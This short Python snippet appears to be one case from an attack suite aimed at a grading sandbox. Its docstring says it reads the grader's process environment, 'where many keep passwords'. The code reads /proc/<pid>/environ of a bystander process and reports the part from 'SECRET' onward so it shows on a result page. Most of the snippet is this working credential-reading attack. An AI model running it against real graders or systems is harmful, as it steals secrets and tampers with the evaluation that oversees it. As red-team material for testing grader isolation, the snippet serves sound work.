"""Reads the environment of the grader's process, where many keep passwords.

Success: a word of that environment stands on its page.
Succeeds: in a grader of one process
"""

environment = open(f"/proc/{FIELD['bystander']}/environ").read()
claim(environment[environment.index("SECRET"):])
